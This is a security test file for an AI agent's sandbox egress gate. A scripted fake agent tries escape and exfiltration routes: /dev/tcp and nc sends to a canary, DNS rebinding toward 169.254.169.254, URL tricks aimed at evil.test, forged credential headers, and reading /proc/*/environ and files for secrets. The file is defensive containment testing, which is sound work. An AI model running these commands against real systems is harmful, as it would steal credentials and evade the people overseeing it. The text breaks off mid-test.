/**
 * What a bottle's gate must withstand, one test per attack, each tried from
 * inside a real bottle: the built `node runner`, a real gate, and an agent on the
 * attacker's toolbox image whose fake claude runs the attack as a tool call. The
 * gate's way out is a stand-in internet of our own containers
 * (test/support/world.ts); every attempt carries a fresh nonce, and an attack is
 * stopped when its nonce shows up in no canary, DNS or upstream log.
 *
 * Attacks are batched into a few sessions (one bottle each) that run once in
 * `beforeAll`; the tests read the sessions' tool output (events.jsonl), the
 * gate's decisions (egress.jsonl) and the world's logs. Sessions end with an
 * error result so the runner keeps their state for reading.
 */
import { type ChildProcess, execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { hostname } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { PLACEHOLDER_API_KEY } from "../../src/bottle/plan-env.js";
import {
  agentExecs,
  engineNow,
  ROOT,
  type RunnerRun,
  type Sandbox,
  fake,
  jsonResult,
  labelled,
  sandbox,
  startRunner,
  waitFor,
  walk,
  writeManifest,
} from "../support/runner.js";
import {
  type HostCanary,
  INNER_CANARY_PORTS,
  type InnerCanary,
  TOOLBOX_IMAGE,
  WORLD_IP,
  type World,
  type WorldEvent,
  startHostCanary,
  startWorld,
} from "../support/world.js";

let world: World;
let hostCanary: HostCanary;
const boxes: Sandbox[] = [];

beforeAll(async () => {
  world = await startWorld();
  hostCanary = await startHostCanary();
});

afterAll(async () => {
  await hostCanary?.close();
  world?.stop();
  for (const box of boxes) rmSync(box.dir, { recursive: true, force: true });
});

/** A marker no log may hold unless the attack it belongs to got through. */
function nonce(): string {
  return `nonce${randomBytes(6).toString("hex")}`;
}

/** A marker for attempts that are meant to succeed, proving the path works at all. */
function control(): string {
  return `control${randomBytes(4).toString("hex")}`;
}

interface ToolCall {
  command: string;
  output: string;
}

interface EgressEvent {
  event: "egress";
  kind: "connect" | "http";
  host: string;
  port: number | null;
  decision: "allow" | "refuse" | "audit" | "error";
  reason?: string;
  address?: string;
  status?: number;
  closed?: string;
  bytesIn: number;
  bytesOut: number;
}

interface Session {
  box: Sandbox;
  run: RunnerRun;
  stateDir: string;
  /** The named steps' tool calls, in the order given. */
  steps: Record<string, ToolCall>;
  egress: EgressEvent[];
}

interface Attack {
  egress: Record<string, unknown>;
  /** Shell commands the fake claude runs, by name, in this order. */
  steps: Record<string, string>;
  /** Fake-claude steps after the named ones. */
  then?: unknown[];
  env?: Record<string, string>;
  /** Runs alongside the session, with the runner's process and its stderr so far. */
  during?: (child: ChildProcess, stderr: () => string) => Promise<void>;
}

function readLines<T>(path: string): T[] {
  if (!existsSync(path)) return [];
  return readFileSync(path, "utf8")
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as T);
}

/** Tool calls in the order claude made them, each with its command and output. */
function toolCalls(eventsPath: string): ToolCall[] {
  type Content = { type: string; id?: string; tool_use_id?: string; input?: { command?: string }; content?: string };
  const calls = new Map<string, ToolCall>();
  for (const event of readLines<{ type: string; message?: { content?: Content[] } }>(eventsPath)) {
    for (const part of event.message?.content ?? []) {
      if (part.type === "tool_use" && part.id) calls.set(part.id, { command: part.input?.command ?? "", output: "" });
      const call = part.type === "tool_result" && part.tool_use_id ? calls.get(part.tool_use_id) : undefined;
      if (call) call.output = String(part.content ?? "");
    }
  }
  return [...calls.values()];
}

function manifestFor(box: Sandbox, egress: Record<string, unknown>): string {
  return writeManifest(box.dir, {
    bottles: { toolbox: { image: TOOLBOX_IMAGE, egress, limits: { timeout: "3m" } } },
    agents: { attacker: { bottle: "toolbox", prompt: "You test the sandbox you run in." } },
  });
}

/** One bottle session running `attack`, read back once it has ended. */
async function runAttack(attack: Attack): Promise<Session> {
  const box = sandbox({ ...world.runnerEnv, ...attack.env });
  boxes.push(box);
  const names = Object.keys(attack.steps);
  const scenario = fake({
    steps: [...names.map((name) => ({ run: attack.steps[name] })), ...(attack.then ?? [])],
    end: "error-result",
  });
  const { child, done } = startRunner(
    ["start", "attacker", "--manifest", manifestFor(box, attack.egress), "--format", "json", "--prompt", scenario],
    box,
  );
  let stderr = "";
  child.stderr?.on("data", (chunk: Buffer) => (stderr += chunk.toString()));
  // A failure alongside stops the session rather than leaving it waiting for a signal that never comes.
  const alongside = attack
    .during?.(child, () => stderr)
    .then(
      () => null,
      (error: unknown) => {
        child.kill("SIGTERM");
        return error;
      },
    );
  const run = await done;
  const failure = await alongside;
  if (failure) throw failure;
  const result = jsonResult(run);
  expect(result.outcome, run.stderr).toBe("error");
  const stateDir = String(result.stateDir);
  const calls = toolCalls(join(stateDir, "events.jsonl"));
  const steps: Record<string, ToolCall> = {};
  names.forEach((name, index) => {
    const call = calls[index];
    if (call === undefined) throw new Error(`step ${name} never ran\n${run.stderr}`);
    steps[name] = call;
  });
  // The runner removes what it created, whatever the session did.
  expect(labelled(String(result.identity))).toEqual({ containers: [], networks: [] });
  return { box, run, stateDir, steps, egress: readLines<EgressEvent>(join(stateDir, "egress.jsonl")) };
}

/** The JSON lines `probe` printed. */
function probes(output: string): Array<Record<string, any>> {
  return output
    .split("\n")
    .filter((line) => line.startsWith('{"probe"'))
    .map((line) => JSON.parse(line) as Record<string, any>);
}

/** Every world log and the host canary: where a nonce must never turn up. */
function everyLog(): string {
  return `${world.allLogs()}\n${JSON.stringify(hostCanary.events)}`;
}

function expectNowhere(marker: string): void {
  const logs = everyLog();
  const at = logs.indexOf(marker);
  expect(at, `found in the world's logs: ${logs.slice(Math.max(0, at - 300), at + 200)}`).toBe(-1);
}

/** The container with `role` of the bottle whose runner has process id `pid`. */
function bottleContainer(pid: number, role: "agent" | "gate"): string {
  return execFileSync(
    "docker",
    [
      "ps",
      "-q",
      "--filter",
      `label=claude-bottle.runner=${hostname()}/${pid}`,
      "--filter",
      `label=claude-bottle.role=${role}`,
    ],
    { encoding: "utf8" },
  ).trim();
}

const header = (event: WorldEvent, name: string): string[] => {
  const raw = event.headers as string[];
  const values: string[] = [];
  for (let i = 0; i < raw.length; i += 2) if (raw[i]!.toLowerCase() === name) values.push(raw[i + 1]!);
  return values;
};

describe("from inside the bottle, around the gate", () => {
  // One bottle for everything that never asks the gate's proxy for a way out.
  const raw = nonce();
  const toHost = nonce();
  const resolver = nonce();
  const v6 = nonce();
  let session: Session;
  let containers: Array<Record<string, any>> = [];
  let agentNetworks: Array<Record<string, any>> = [];

  beforeAll(async () => {
    const { origin, canary, dns } = WORLD_IP;
    session = await runAttack({
      egress: { allow: ["allowed.test"] },
      steps: {
        // setpriv asks the kernel (prctl), which gVisor answers too; its /proc has no NoNewPrivs line.
        hardening: [
          "id -u; grep -E '^(CapEff|CapBnd):' /proc/self/status; setpriv --dump 2>/dev/null | grep no_new_privs",
          'for s in /var/run/docker.sock /run/docker.sock; do [ -e "$s" ] && echo "$s: present" || echo "$s: absent"; done; true',
        ].join("\n"),
        bypass: [
          `try() { name=$1; shift; if timeout 4 "$@" >/dev/null 2>&1; then echo "$name: reached"; else echo "$name: failed"; fi; }`,
          `try curl-noproxy curl --noproxy '*' -sS -m 3 -k https://allowed.test/${raw}/curl &`,
          `try curl-noproxy-ip curl --noproxy '*' -sS -m 3 -k --resolve allowed.test:443:${origin} https://allowed.test/${raw}/curl-ip &`,
          `for p in 22 80 443 8080; do try tcp-$p bash -c "echo ${raw}-tcp-$p > /dev/tcp/${canary}/$p" & done`,
          `try dns-direct dig +time=2 +tries=1 @${dns} ${raw}.udp.test &`,
          // A datagram goes out without an answer to wait for; only the canary can tell whether it arrived.
          `for p in 53 123 443; do echo "${raw}-udp-$p" | nc -u -w 1 ${canary} $p 2>/dev/null & done`,
          `try ping ping -c 1 -W 2 -p ${Buffer.from(raw.slice(-8)).toString("hex")} ${canary} &`,
          "wait",
        ].join("\n"),
        netadmin: `ip route add default via ${origin} 2>&1; echo "exit=$?"; ip route add ${origin}/32 dev eth0 2>&1; echo "exit=$?"; ip addr add 198.18.0.99/24 dev eth0 2>&1; echo "exit=$?"`,
        hostGateway: [
          `gw=$(ip -4 route | awk '/^default/ {print $3}'); echo "gateway=$gw"`,
          `for to in "$gw" ${WORLD_IP.gateway}; do (timeout 4 bash -c "echo ${toHost} > /dev/tcp/$to/${hostCanary.port}" && echo "host $to: reached" || echo "host $to: failed") & done; wait`,
        ].join("\n"),
        resolver: [
          `getent hosts ${resolver}.x.test; echo "getent=$?"`,
          `dig +time=2 +tries=1 ${resolver}.x.test; echo "dig=$?"`,
          `dig +time=2 +tries=1 @gate ${resolver}.y.test; echo "dig-gate=$?"`,
          `curl --noproxy '*' -sS -m 5 http://${resolver}.z.test/; echo "curl=$?"`,
        ].join("\n"),
        ipv6: [
          "echo global: $(ip -6 addr show scope global | grep -c inet6)",
          "echo routes: $(ip -6 route | grep -vc '^fe80\\|^$' || true)",
          `for t in '[::1]:443' '[fd00::1]:443' '[::ffff:${origin}]:443' '[::]:443'; do probe connect "$t" --path /${v6}/connect; done`,
          `for t in 'http://[::1]/' 'http://[fd00::1]/' 'http://[::ffff:${origin}]/'; do probe http "\${t}${v6}"; done`,
          `curl -6 --noproxy '*' -sS -m 3 'http://[fd00::1]/${v6}'; echo "curl6=$?"`,
        ].join("\n"),
        scan: "for s in 0 1 2 3 4 5 6 7; do lo=$((s * 8192 + 1)); hi=$((lo + 8191)); [ $hi -gt 65535 ] && hi=65535; nc -zv -w 1 gate $lo-$hi 2>&1 | grep succeeded & done; wait; echo scanned",
      },
      during: async (child, stderr) => {
        // The agent starts alongside the gate: either may run first.
        let agent = "";
        let gate = "";
        await waitFor(
          () =>
            (agent = bottleContainer(child.pid!, "agent")) !== "" &&
            (gate = bottleContainer(child.pid!, "gate")) !== "",
          60_000,
          "the agent and gate containers to run",
        ).catch((error: Error) => Promise.reject(new Error(`${error.message}; the runner said:\n${stderr()}`)));
        const inspect = (args: string[]) =>
          JSON.parse(execFileSync("docker", args, { encoding: "utf8" })) as Array<Record<string, any>>;
        containers = inspect(["inspect", agent, gate]);
        agentNetworks = inspect(["network", "inspect", ...Object.keys(containers[0]!.NetworkSettings.Networks)]);
      },
    });
  });

  test("a tool that ignores the proxy variables (raw TCP, UDP, ICMP) reaches nothing, and cannot add a route", () => {
    const { bypass, netadmin, hardening } = session.steps;
    const lines = bypass!.output.trim().split("\n").sort();
    expect(lines).toEqual(
      expect.arrayContaining([
        "curl-noproxy: failed",
        "curl-noproxy-ip: failed",
        "dns-direct: failed",
        "ping: failed",
        "tcp-22: failed",
        "tcp-443: failed",
        "tcp-80: failed",
        "tcp-8080: failed",
      ]),
    );
    expect(lines.filter((line) => line.endsWith("reached"))).toEqual([]);
    expect(world.events("canary").filter((e) => e.event !== "listening")).toEqual([]);
    expectNowhere(raw);
    expect(netadmin!.output).not.toContain("exit=0");
    // runc says EPERM; gVisor's netlink says EACCES.
    expect(netadmin!.output.match(/Operation not permitted|Permission denied/g)?.length).toBe(3);
    // What stops it: no capabilities at all, and no way to gain any.
    expect(hardening!.output).toMatch(/^1000$/m);
    expect(hardening!.output).toMatch(/^CapEff:\s+0+$/m);
    expect(hardening!.output).toMatch(/^CapBnd:\s+0+$/m);
    expect(hardening!.output).toMatch(/^no_new_privs:\s+1$/m);
    expect(hardening!.output).toMatch(/^\/var\/run\/docker\.sock: absent$/m);
    expect(hardening!.output).toMatch(/^\/run\/docker\.sock: absent$/m);
  });

  test("the agent and the gate: non-root, no capabilities, no-new-privileges, limits, no mounts; the agent on one internal network", () => {
    expect(containers).toHaveLength(2);
    for (const container of containers) {
      const name = String(container.Name);
      expect(String(container.Config.User), name).not.toMatch(/^(root|0)?(:|$)/);
      expect(container.HostConfig.CapDrop, name).toEqual(["ALL"]);
      expect(container.HostConfig.CapAdd ?? [], name).toEqual([]);
      expect(container.HostConfig.Privileged, name).toBe(false);
      expect(container.HostConfig.SecurityOpt, name).toContain("no-new-privileges");
      expect(container.HostConfig.PidsLimit, name).toBeGreaterThan(0);
      expect(container.HostConfig.Memory, name).toBeGreaterThan(0);
      // No Docker socket, and no bind mounts at all: files move through the archive API.
      expect(container.Mounts, name).toEqual([]);
    }
    expect(agentNetworks.map((network) => network.Internal)).toEqual([true]);
  });

  test("the host behind the agent's network gateway is out of reach too", () => {
    const { hostGateway } = session.steps;
    expect(hostGateway!.output).toMatch(/^gateway=/m);
    expect(hostGateway!.output).not.toMatch(/: reached$/m);
    expect(hostCanary.events).toEqual([]);
    expectNowhere(toHost);
  });

  test("DNS leak through the container's resolver: names do not resolve, and the DNS server never hears them", () => {
    const output = session.steps.resolver!.output;
    expect(output).toMatch(/^getent=2$/m);
    expect(output).not.toMatch(/^dig=0$/m);
    expect(output).not.toMatch(/^dig-gate=0$/m);
    expect(output).toMatch(/^curl=(6|28)$/m);
    expect(output).not.toMatch(/ANSWER SECTION/);
    expectNowhere(resolver);
  });

  test("IPv6: no global address or route in the agent; IPv6 literals are refused", () => {
    const output = session.steps.ipv6!.output;
    expect(output).toMatch(/^global: 0$/m);
    expect(output).toMatch(/^routes: 0$/m);
    const results = probes(output);
    expect(results).toHaveLength(7);
    for (const result of results) expect(result, JSON.stringify(result)).toMatchObject({ status: 403 });
    expect(output).not.toMatch(/^curl6=0$/m);
    // Nothing else in this session asked the gate for a way out.
    expect(session.egress.map((e) => [e.decision, e.reason])).toEqual(
      Array(7).fill(["refuse", expect.stringContaining("IPv6 address")]),
    );
    expectNowhere(v6);
  });

  test("gate admin ports: a scan of every TCP port of the gate finds only the proxy", () => {
    const output = session.steps.scan!.output;
    expect(output).toContain("scanned");
    const open = [...output.matchAll(/(\d+) port \[tcp/g)].map((m) => Number(m[1]));
    expect(open).toEqual([8080]);
  });
});

describe("through the gate's forward proxy", () => {
  const gateDns = nonce();
  const literal = nonce();
  const rebind = nonce();
  const sni = nonce();
  const hostHeader = nonce();
  const ok = control();
  const REBIND_TRIES = 100;
  const literals = [
    `${WORLD_IP.origin}:443`,
    "[::ffff:c612:a]:443",
    "3323068426:443",
    "0xc612000a:443",
    "0306.022.0.012:443",
    "198.18.10:443",
    "0xc6.0x12.0.0xa:443",
    `${WORLD_IP.origin}.:443`,
    `[::ffff:${WORLD_IP.origin}]:443`,
  ];
  const absoluteLiterals = [
    `http://${WORLD_IP.origin}/`,
    "http://3323068426/",
    "http://0xc612000a/",
    "http://0306.022.0.012/",
    "http://[::ffff:c612:a]/",
  ];
  const tricks = [
    "allowed.test@evil.test:443",
    "evil.test#allowed.test:443",
    "allowed.test:443@evil.test:443",
    "evil.test:443",
    "allowed.test:443/evil.test",
  ];
  let session: Session;
  let inner: InnerCanary;

  beforeAll(async () => {
    const tls = (servername: string, path: string) =>
      `printf 'GET ${path} HTTP/1.0\\r\\nHost: allowed.test\\r\\n\\r\\n' | timeout 15 openssl s_client -proxy gate:8080 -connect allowed.test:443 ${servername} -ign_eof 2>&1; echo "exit=$?"`;
    session = await runAttack({
      egress: { allow: ["allowed.test", "*.allowed.test", "allowed.test:80", "rebind.test", "mapped.test"] },
      steps: {
        innerReady: `for i in $(seq 150); do nc -z -w 1 gate ${INNER_CANARY_PORTS.ready} && echo ready && break; sleep 0.2; done`,
        gateDns: [
          `for t in ${gateDns}.notallowed.test:443 ${gateDns}.evil.test:443 ${gateDns}.allowed.test.evil.test:443 ${gateDns}.allowed.test:22; do probe connect "$t" --path /${gateDns}; done`,
          `probe http http://${gateDns}.notallowed.test/${gateDns}`,
          `curl -sS -m 10 -o /dev/null -w '%{http_connect}\\n' https://${gateDns}.notallowed.test/; true`,
          `probe connect ${ok}.allowed.test:443 --path /${ok}/wildcard`,
        ].join("\n"),
        literals: [
          `for t in ${literals.map((t) => `'${t}'`).join(" ")}; do probe connect "$t" --path /${literal}/connect; done`,
          `for t in ${absoluteLiterals.map((t) => `'${t}'`).join(" ")}; do probe http "\${t}${literal}/absolute"; done`,
          `probe connect ALLOWED.TEST:443 --sni allowed.test --path /${ok}/upper`,
          `probe connect allowed.test.:443 --sni allowed.test --path /${ok}/dot`,
        ].join("\n"),
        tricks: [
          `for t in ${tricks.map((t) => `'${t}'`).join(" ")}; do probe connect "$t" --sni allowed.test --path /${literal}/trick; done`,
          `for t in 'http://allowed.test@evil.test/' 'http://evil.test#@allowed.test/' 'http://evil.test\\@allowed.test/'; do probe http "\${t}${literal}/trick"; done`,
        ].join("\n"),
        rebind: [
          `for i in $(seq ${REBIND_TRIES}); do curl -sk -m 10 -o /dev/null -w '%{http_connect} %{http_code}\\n' https://rebind.test/${rebind}/$i; done | sort | uniq -c`,
          `for i in 1 2 3 4 5; do probe connect mapped.test:443 --path /${rebind}/mapped; done`,
        ].join("\n"),
        sniMismatch: tls("-servername evil.test", `/${sni}/mismatch`),
        sniMissing: tls("-noservername", `/${sni}/missing`),
        sniControl: tls("-servername allowed.test", `/${ok}/sni`),
        plaintext: `probe connect allowed.test:443 --plain --path /${sni}/plain443; probe connect allowed.test:80 --plain --path /${sni}/plain80`,
        ports: `probe connect allowed.test:22 --path /${sni}/ssh; probe connect allowed.test:8443 --path /${sni}/8443; curl -sS -m 10 -o /dev/null -w '%{http_connect}\\n' https://allowed.test:8443/${sni}; true`,
        hostHeader: [
          `curl -sS -m 10 -H 'Host: evil.test' http://allowed.test/${hostHeader}/curl; echo`,
          `probe http http://allowed.test/${hostHeader}/probe --host evil.test`,
          `probe http http://allowed.test:80/${hostHeader}/port --host evil.test:80`,
          `curl -sS -m 10 -o /dev/null -w 'direct %{http_code}\\n' http://evil.test/${hostHeader}/direct`,
        ].join("\n"),
      },
      during: async (child) => {
        inner = await world.innerCanary(child.pid!);
      },
    });
  });

  test("DNS leak through the gate's own lookups: names off the allowlist are refused before any lookup", () => {
    const results = probes(session.steps.gateDns!.output);
    const refused = results.filter((r) => r.target.includes(gateDns));
    expect(refused).toHaveLength(5);
    for (const result of refused) expect(result, JSON.stringify(result)).toMatchObject({ status: 403 });
    expect(session.steps.gateDns!.output).toMatch(/^403$/m);
    expectNowhere(gateDns);
    // The same path works for a listed name, and the DNS server hears that lookup.
    expect(results.find((r) => r.target.startsWith(ok))).toMatchObject({
      status: 200,
      after: { kind: "tls", body: { vhost: "allowed.test" } },
    });
    expect(world.events("dns").some((e) => e.name === `${ok}.allowed.test`)).toBe(true);
  });

  test("IP literals and odd notations are refused; case and a trailing dot are normalised; user info and fragments are refused", () => {
    const results = probes(session.steps.literals!.output);
    const byTarget = (target: string) => results.find((r) => r.target === target);
    for (const target of [...literals, ...absoluteLiterals.map((t) => `${t}${literal}/absolute`)]) {
      expect(byTarget(target), target).toMatchObject({ status: 403 });
    }
    expect(byTarget("ALLOWED.TEST:443")).toMatchObject({
      status: 200,
      after: { kind: "tls", body: { vhost: "allowed.test", path: `/${ok}/upper` } },
    });
    expect(byTarget("allowed.test.:443")).toMatchObject({
      status: 200,
      after: { kind: "tls", body: { vhost: "allowed.test", path: `/${ok}/dot` } },
    });
    const tricked = probes(session.steps.tricks!.output);
    expect(tricked).toHaveLength(tricks.length + 3);
    for (const result of tricked.filter((r) => r.probe === "connect"))
      expect(result, JSON.stringify(result)).toMatchObject({ status: 403 });
    // A `#` in a request target does not even parse: 400 from the gate's HTTP parser.
    for (const result of tricked.filter((r) => r.probe === "http"))
      expect([400, 403], JSON.stringify(result)).toContain(result.status);
    // Refused before any lookup: not one of these reached the DNS server either.
    const asked = world.events("dns").map((e) => String(e.name));
    expect(asked.filter((name) => /^[0-9]|^0x|@|#|^evil\.test$/.test(name))).toEqual([]);
    expectNowhere(literal);
  });

  test("DNS rebinding and internal targets: a name alternating with loopback, the gate's own IP and 169.254.169.254 never reaches them", () => {
    const counts = Object.fromEntries(
      [...session.steps.rebind!.output.matchAll(/^\s*(\d+) (\d{3}) (\d{3})$/gm)].map((m) => [
        `${m[2]} ${m[3]}`,
        Number(m[1]),
      ]),
    );
    const reached = counts["200 200"] ?? 0;
    const refused = counts["403 000"] ?? 0;
    expect(reached + refused, session.steps.rebind!.output).toBe(REBIND_TRIES);
    expect(reached).toBeGreaterThan(0);
    expect(refused).toBeGreaterThan(0);

    const tries = session.egress.filter((e) => e.host === "rebind.test");
    expect(tries).toHaveLength(REBIND_TRIES);
    for (const event of tries.filter((e) => e.decision === "allow")) expect(event.address).toBe(WORLD_IP.origin);
    const reasons = tries.filter((e) => e.decision === "refuse").map((e) => e.reason ?? "");
    expect(reasons.some((r) => r.includes("127.0.0.1 is a loopback"))).toBe(true);
    expect(reasons.some((r) => r.includes("169.254.169.254 is a link-local"))).toBe(true);
    expect(reasons.some((r) => r.includes("one of the gate's own addresses"))).toBe(true);
    expect(tries.filter((e) => e.decision !== "allow" && e.decision !== "refuse")).toEqual([]);
    // Resolved once per try: a second lookup is where a rebinding name would turn inward.
    const lookups = world.events("dns").filter((e) => e.name === "rebind.test" && e.type === "A");
    expect(lookups).toHaveLength(REBIND_TRIES);
    expect(new Set(lookups.map((e) => JSON.stringify(e.answer))).size).toBeGreaterThanOrEqual(4);

    // An IPv4-mapped loopback AAAA answer never leads inside: the gate either refuses the
    // name for it or never asks for AAAA and connects to the checked IPv4 answer.
    expect(probes(session.steps.rebind!.output)).toHaveLength(5);
    const mapped = session.egress.filter((e) => e.host === "mapped.test");
    expect(mapped).toHaveLength(5);
    for (const event of mapped) {
      if (event.decision === "refuse") expect(event.reason).toContain("IPv4-mapped loopback");
      else expect(event).toMatchObject({ decision: "allow", address: WORLD_IP.origin });
    }

    expect(session.steps.innerReady!.output).toContain("ready");
    const reachedInside = inner.events().filter((e) => e.event !== "listening" && e.port !== INNER_CANARY_PORTS.ready);
    expect(reachedInside).toEqual([]);
    // Only the checked public answer ever got the request.
    const atOrigin = world
      .events("origin")
      .filter((e) => e.event === "request" && new RegExp(`^/${rebind}/\\d+$`).test(String(e.path)));
    expect(atOrigin).toHaveLength(reached);
    expect(everyLog().replace(/.*"svc":"origin".*/g, "")).not.toContain(rebind);
  });

  test("a tunnel must carry TLS whose SNI is the CONNECT host, on a port the allowlist names", () => {
    const { sniMismatch, sniMissing, sniControl, plaintext, ports } = session.steps;
    for (const closed of [sniMismatch!, sniMissing!]) {
      expect(closed.output).toContain("CONNECTED");
      expect(closed.output).not.toMatch(/BEGIN CERTIFICATE|Server certificate|"vhost"/);
      expect(closed.output).not.toMatch(/^exit=0$/m);
    }
    // The same command with the right SNI goes through, so the refusals above are the gate's.
    expect(sniControl!.output).toContain('"vhost":"allowed.test"');
    const plain = probes(plaintext!.output);
    expect(plain).toHaveLength(2);
    for (const result of plain) expect(result).toMatchObject({ status: 200, after: { kind: "closed" } });
    const refusedPorts = probes(ports!.output);
    expect(refusedPorts.map((r) => r.status)).toEqual([403, 403]);
    expect(ports!.output).toMatch(/^403$/m);
    const reasons = session.egress.filter((e) => e.host === "allowed.test").map((e) => e.reason ?? "");
    expect(reasons.filter((r) => r.includes("SNI") || r.includes("no SNI"))).toHaveLength(2);
    expect(reasons.filter((r) => r.includes("did not start with a TLS ClientHello"))).toHaveLength(2);
    expect(reasons.filter((r) => /port (22|8443) is not allowed/.test(r)).length).toBeGreaterThanOrEqual(3);
    // The origin never saw a handshake for evil.test, nor a byte of these attempts.
    expect(
      world.events("origin").filter((e) => e.event === "tls" && (e.sni === null || String(e.sni).includes("evil"))),
    ).toEqual([]);
    expectNowhere(sni);
  });

  test("domain fronting (allowed SNI, another Host inside TLS) is a documented limitation", () => {
    // The gate cannot see inside TLS without intercepting it; the README says so and what to do.
    const readme = readFileSync(join(ROOT, "README.md"), "utf8");
    expect(readme).toMatch(
      /Known limit: domain fronting[\s\S]{0,120}cannot be seen without intercepting TLS; keep allowlists narrow/,
    );
  });

  test("an absolute-URI request with a conflicting Host goes by the request target; evil.test never sees it", () => {
    const output = session.steps.hostHeader!.output;
    const fromCurl = JSON.parse(output.split("\n")[0]!) as Record<string, unknown>;
    expect(fromCurl).toMatchObject({ vhost: "allowed.test", host: "allowed.test" });
    const results = probes(output);
    expect(results).toHaveLength(2);
    for (const result of results)
      expect(result).toMatchObject({ status: 200, body: { vhost: "allowed.test", host: "allowed.test" } });
    expect(output).toMatch(/^direct 403$/m);
    const seen = world.events("origin").filter((e) => e.event === "request" && String(e.path).includes(hostHeader));
    expect(seen.map((e) => [e.vhost, e.host])).toEqual([
      ["allowed.test", "allowed.test"],
      ["allowed.test", "allowed.test"],
      ["allowed.test", "allowed.test"],
    ]);
    expect(world.events("dns").filter((e) => String(e.name).includes("evil"))).toEqual([]);
  });
});

describe("credential routes", () => {
  const KEY = `sk-ant-api03-${randomBytes(24).toString("base64url")}-world-key`;
  const TOKEN = `sk-ant-oat01-${randomBytes(24).toString("base64url")}-world-token`;
  const stripped = nonce();
  const redirect = nonce();
  let session: Session;
  /** What the test saw of the live bottle from the host. */
  const seen = { agentScan: "", agentInspect: "", gateInspect: "", gateConfig: "" };

  beforeAll(async () => {
    const forged = [
      `x-api-key: ${stripped}-x-api-key`,
      `authorization: Bearer ${stripped}-authorization`,
      `proxy-authorization: Basic ${stripped}-proxy-authorization`,
      `forwarded: for=${stripped}-forwarded`,
      `x-forwarded-for: ${stripped}-xff`,
      `x-forwarded-host: ${stripped}-xfh.evil.test`,
      `x-forwarded-proto: ${stripped}-xfp`,
      `x-real-ip: ${stripped}-x-real-ip`,
      `cookie: session=${stripped}-cookie`,
      `host: ${stripped}-host.evil.test`,
    ]
      .map((h) => `-H '${h}'`)
      .join(" ");
    session = await runAttack({
      env: { SECURITY_TEST_KEY: KEY, SECURITY_TEST_TOKEN: TOKEN },
      egress: {
        routes: [
          {
            name: "model",
            upstream: `http://${WORLD_IP.api}`,
            inject: { header: "x-api-key", fromEnv: "SECURITY_TEST_KEY" },
            role: "anthropic",
          },
          {
            name: "oauth",
            upstream: `http://${WORLD_IP.api}/oauth`,
            inject: { header: "authorization", fromEnv: "SECURITY_TEST_TOKEN", format: "Bearer {value}" },
          },
        ],
      },
      steps: {
        api: `curl -sS -m 10 -w '\\nstatus=%{http_code}\\n' ${forged} -H 'content-type: application/json' -d '{"model":"m","max_tokens":1,"messages":[]}' "$ANTHROPIC_BASE_URL/v1/messages"`,
        oauth: `curl -sS -m 10 -w '\\nstatus=%{http_code}\\n' ${forged} http://gate:8080/oauth/v1/check`,
        redirect: `curl -sS -i -m 10 "$ANTHROPIC_BASE_URL/redirect?to=${redirect}"`,
        env: "env",
        environ: "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'",
        files: "grep -ras '' /home /opt /tmp; echo \"files exit=$?\"",
      },
      then: [
        { say: "scan now" },
        {
          run: "i=0; while [ ! -e /tmp/.scan-done ] && [ $i -lt 900 ]; do sleep 0.1; i=$((i + 1)); done; echo scanned",
        },
      ],
      during: async (child, stderr) => {
        await waitFor(() => stderr().includes("claude: scan now"), 120_000, "the agent to stop for the scan");
        const agent = bottleContainer(child.pid!, "agent");
        const gate = bottleContainer(child.pid!, "gate");
        // The patterns go in on stdin, so no argument, variable or file of the container ever holds a secret.
        // The placeholder is among them to show the search finds what is there.
        seen.agentScan = execFileSync(
          "docker",
          [
            "exec",
            "-i",
            "-u",
            "node",
            agent,
            "sh",
            "-c",
            "grep -raosF -f /dev/stdin / /proc/[0-9]*/environ /proc/[0-9]*/cmdline --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev; echo scan complete",
          ],
          { input: `${KEY}\n${TOKEN}\n${PLACEHOLDER_API_KEY}\n`, encoding: "utf8", maxBuffer: 16 * 1024 * 1024 },
        );
        seen.agentInspect = execFileSync("docker", ["inspect", agent], { encoding: "utf8" });
        seen.gateInspect = execFileSync("docker", ["inspect", gate], { encoding: "utf8" });
        seen.gateConfig = execFileSync("docker", ["exec", gate, "cat", "/opt/claude-bottle-gate/config.json"], {
          encoding: "utf8",
        });
        execFileSync("docker", ["exec", "-u", "node", agent, "touch", "/tmp/.scan-done"]);
      },
    });
  });

  const requestsTo = (path: string): WorldEvent[] =>
    world.events("api").filter((e) => e.event === "request" && e.path === path);

  test("the upstream sees only the gate's credential and fixed Host; a redirect to evil is not followed", () => {
    const { api, oauth, redirect: redirected } = session.steps;
    expect(api!.output).toContain("hello from the world");
    expect(api!.output).toMatch(/^status=200$/m);
    expect(oauth!.output).toMatch(/^status=200$/m);
    const [model] = requestsTo("/v1/messages");
    const [bearer] = requestsTo("/oauth/v1/check");
    expect(requestsTo("/v1/messages")).toHaveLength(1);
    expect(requestsTo("/oauth/v1/check")).toHaveLength(1);
    expect(header(model!, "x-api-key")).toEqual([KEY]);
    expect(header(model!, "authorization")).toEqual([]);
    expect(header(bearer!, "authorization")).toEqual([`Bearer ${TOKEN}`]);
    expect(header(bearer!, "x-api-key")).toEqual([]);
    for (const request of [model!, bearer!]) {
      expect(header(request, "host")).toEqual([WORLD_IP.api]);
      for (const name of ["proxy-authorization", "forwarded", "x-real-ip", "cookie"])
        expect(header(request, name), name).toEqual([]);
      expect((request.headers as string[]).filter((h) => h.toLowerCase().startsWith("x-forwarded-"))).toEqual([]);
    }
    expectNowhere(stripped);

    expect(redirected!.output).toMatch(/^HTTP\/1\.1 302/m);
    expect(redirected!.output).toMatch(new RegExp(`^location: http://evil\\.test/${redirect}`, "im"));
    expect(world.events("api").filter((e) => String(e.path).includes(redirect))).toHaveLength(1);
    // Following it would have meant a lookup of evil.test and a request at the origin.
    expect(world.events("dns").filter((e) => String(e.name).includes("evil"))).toEqual([]);
    expect(world.events("origin").filter((e) => JSON.stringify(e).includes(redirect))).toEqual([]);
  });

  test("secret scan: after a full session the real credentials are in no byte the agent or the user can read", () => {
    // The agent looked everywhere it can: its environment, every process's, every file under /home, /opt and /tmp.
    expect(session.steps.env!.output).toMatch(/^ANTHROPIC_API_KEY=sk-ant-bottle-placeholder/m);
    expect(session.steps.environ!.output).toContain("ANTHROPIC_BASE_URL=http://gate:8080/model");
